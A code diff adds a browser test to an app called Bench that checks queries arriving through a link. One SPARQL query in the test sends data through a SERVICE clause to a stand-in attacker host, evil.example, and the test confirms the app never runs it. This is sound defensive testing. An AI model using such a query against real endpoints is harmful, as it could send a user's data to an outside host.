@@ -47,4 +47,23 @@ describe('a folder in Bench', () => {
     await page.waitForURL((url) => (url.searchParams.get('url') ?? '').endsWith('/profile/'))
     expect(await page.evaluate(() => 'isSamePage' in globalThis)).toBe(true)
   })
+
+  it('a link brings a query along and has it asked, but none that could carry the answer away', async () => {
+    const { page } = alice
+    const asked: string[] = []
+    page.on('request', (request) => {
+      if (request.url().includes('.sparql')) asked.push(request.postData() ?? '')
+    })
+    for (const [query, times] of [
+      ['SELECT * { ?s ?p ?o SERVICE <https://evil.example/> { ?s ?q ?o } }', 0],
+      ['SELECT * { ?s ?p ?o } LIMIT 7', 1],
+    ] as const) {
+      asked.length = 0
+      await page.goto('about:blank')
+      await page.goto(`${world.apps.bench}#${new URLSearchParams({ query })}`)
+      await page.getByText(query.slice(0, 20)).first().waitFor()
+      await alice.settled()
+      expect(asked.filter((text) => text.includes(query))).toHaveLength(times)
+    }
+  })
 })
